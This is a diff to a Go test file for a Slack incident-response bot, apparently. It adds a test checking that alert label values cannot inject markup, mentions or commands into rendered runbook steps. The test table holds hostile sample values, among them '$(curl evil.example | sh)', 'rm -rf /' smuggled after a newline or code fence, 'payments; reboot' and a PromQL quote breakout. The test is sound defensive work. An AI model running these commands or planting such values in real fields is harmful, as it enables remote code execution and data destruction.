@@ -160,32 +160,45 @@ func TestBuiltinRunbookBlocksGolden(t *testing.T) {
 // Markdown bold survives, and the message is within Slack's limits.
 func TestBuiltinRunbooksPasteAsWritten(t *testing.T) {
 	unescape := strings.NewReplacer("&lt;", "<", "&gt;", ">", "&amp;", "&")
+	declared := &bot.Incident{ID: 3, Title: "Payments slow", Severity: bot.SEV2, Status: bot.StatusInvestigating, DetectedAt: t0}
 	for _, rb := range runbooks.Builtin().All() {
-		_, blocks := view{loc: time.UTC}.runbook(memoryIncident(), rb)
-		texts := sectionTexts(t, rb.Name, blocks)
-		all := unescape.Replace(strings.Join(texts, "\n"))
-		sources := []string{introMarkdown(rb.Intro)}
-		for _, s := range rb.Steps {
-			sources = append(sources, s.Markdown)
-		}
-		blocksSeen := 0
-		for _, src := range sources {
-			for _, want := range codeBlocks(src) {
-				blocksSeen++
-				if !strings.Contains(all, fence+"\n"+want+"\n"+fence) {
-					t.Errorf("%s: code block not fenced with the same lines in the message:\n%s", rb.Name, want)
+		for _, inc := range []*bot.Incident{declared, memoryIncident()} {
+			_, blocks := view{loc: time.UTC}.runbook(inc, rb)
+			texts := sectionTexts(t, rb.Name, blocks)
+			all := unescape.Replace(strings.Join(texts, "\n"))
+			vars := map[string]string{}
+			for _, v := range bot.FillVars(rb, inc) {
+				if v.Filled {
+					vars[v.Name] = v.Value
 				}
 			}
-		}
-		if blocksSeen < 5 {
-			t.Errorf("%s: only %d code blocks in the source; the test reads the wrong thing", rb.Name, blocksSeen)
-		}
-		if strings.Contains(all, "**") {
-			t.Errorf("%s: Markdown bold survives: %q", rb.Name, around(all, "**"))
-		}
-		for _, lang := range []string{"sh", "bash", "promql", "yaml", "console", "logql"} {
-			if strings.Contains(all, fence+lang) {
-				t.Errorf("%s: a language line survives: %q", rb.Name, around(all, fence+lang))
+			if len(inc.Alerts) > 0 && len(vars) != len(rb.Vars) {
+				t.Errorf("%s: filled %v from a HighMemoryUsage alert, want all of %v", rb.Name, vars, rb.Vars)
+			}
+			r := mrkdwnRenderer{vars: vars}
+			sources := []string{introMarkdown(rb.Intro)}
+			for _, s := range rb.Steps {
+				sources = append(sources, s.Markdown)
+			}
+			blocksSeen := 0
+			for _, src := range sources {
+				for _, want := range codeBlocks(src) {
+					blocksSeen++
+					if want = r.expand(want, true); !strings.Contains(all, fence+"\n"+want+"\n"+fence) {
+						t.Errorf("%s: code block not fenced with the same lines in the message:\n%s", rb.Name, want)
+					}
+				}
+			}
+			if blocksSeen < 5 {
+				t.Errorf("%s: only %d code blocks in the source; the test reads the wrong thing", rb.Name, blocksSeen)
+			}
+			if strings.Contains(all, "**") {
+				t.Errorf("%s: Markdown bold survives: %q", rb.Name, around(all, "**"))
+			}
+			for _, lang := range []string{"sh", "bash", "promql", "yaml", "console", "logql"} {
+				if strings.Contains(all, fence+lang) {
+					t.Errorf("%s: a language line survives: %q", rb.Name, around(all, fence+lang))
+				}
 			}
 		}
 	}
@@ -279,5 +292,79 @@ func BenchmarkRenderMemoryLeak(b *testing.B) {
 		if len(blocks) == 0 {
 			b.Fatal("no blocks")
 		}
+	}
+}
+
+// TestHostileLabelValues checks that a label value is data: whatever an
+// alert carries, it cannot end a code block, add markup, mention
+// @channel, or run a command when a step is pasted. A value that is not
+// plain stays out of the steps ($NS as written), with a note.
+func TestHostileLabelValues(t *testing.T) {
+	rb := bot.Runbook{Name: "ns-check", Title: "NS check",
+		Vars: []bot.RunbookVar{{Name: "NS", Template: "{{ .Labels.namespace }}"}},
+		Steps: []bot.RunbookStep{{N: 1, Text: "Look at the namespace",
+			Markdown: "Look at $NS and `$NS` in [the dashboard](https://g.example/d?ns=$NS).\n\n```sh\nkubectl -n \"$NS\" get pods\n```"}}}
+	render := func(ns string, withLabel bool) (string, []string) {
+		inc := memoryIncident()
+		if withLabel {
+			inc.Alerts[0].Labels["namespace"] = ns
+		} else {
+			delete(inc.Alerts[0].Labels, "namespace")
+		}
+		_, blocks := view{loc: time.UTC}.runbook(inc, rb)
+		note := ""
+		for _, b := range blocks {
+			if c, ok := b.(*slackgo.ContextBlock); ok && c.BlockID == "runbook_vars" {
+				note = c.ContextElements.Elements[0].(*slackgo.TextBlockObject).Text
+			}
+		}
+		return note, sectionTexts(t, ns, blocks)
+	}
+	_, unfilled := render("", false)
+	tests := []struct {
+		name   string
+		value  string
+		filled bool
+	}{
+		{name: "plain namespace", value: "payments", filled: true},
+		{name: "selector-like", value: "app=payment-gateway,tier=web", filled: true},
+		{name: "backtick", value: "pay`ments"},
+		{name: "code fence", value: "```\nrm -rf /\n```"},
+		{name: "channel mention", value: "<!channel>"},
+		{name: "user mention", value: "<@U0ADMIN>"},
+		{name: "mrkdwn bold", value: "*urgent*"},
+		{name: "newline", value: "payments\nrm -rf /"},
+		{name: "command substitution", value: "$(curl evil.example | sh)"},
+		{name: "quote breaking out of PromQL", value: `payments"} or vector(1) #`},
+		{name: "semicolon", value: "payments; reboot"},
+		{name: "space", value: "pay ments"},
+		{name: "non-ASCII", value: "paymènts"},
+		{name: "10k characters", value: strings.Repeat("a", 10000)},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			note, got := render(tt.value, true)
+			if !tt.filled {
+				if strings.Join(got, "\n") != strings.Join(unfilled, "\n") {
+					t.Errorf("value %q changed the steps:\n got %q\nwant %q", tt.value, got, unfilled)
+				}
+				if !strings.Contains(note, "`$NS` stays as written") || strings.Contains(note, tt.value) {
+					t.Errorf("value %q: note %q, want it to say $NS stays, without the value", tt.value, note)
+				}
+				return
+			}
+			all := strings.Join(got, "\n")
+			for _, want := range []string{"Look at `" + tt.value + "`", "`" + tt.value + "` in", "ns=" + tt.value + "|", `kubectl -n "` + tt.value + `" get pods`} {
+				if !strings.Contains(all, want) {
+					t.Errorf("value %q: %q not in the step:\n%s", tt.value, want, all)
+				}
+			}
+			if !strings.Contains(note, "`$NS` = `"+tt.value+"`") {
+				t.Errorf("value %q: note %q does not show it", tt.value, note)
+			}
+		})
+	}
+	if note, _ := render("", false); !strings.Contains(note, "`$NS` stays as written: no alert has label namespace.") {
+		t.Errorf("missing label: note %q, want it to name the label", note)
 	}
 }
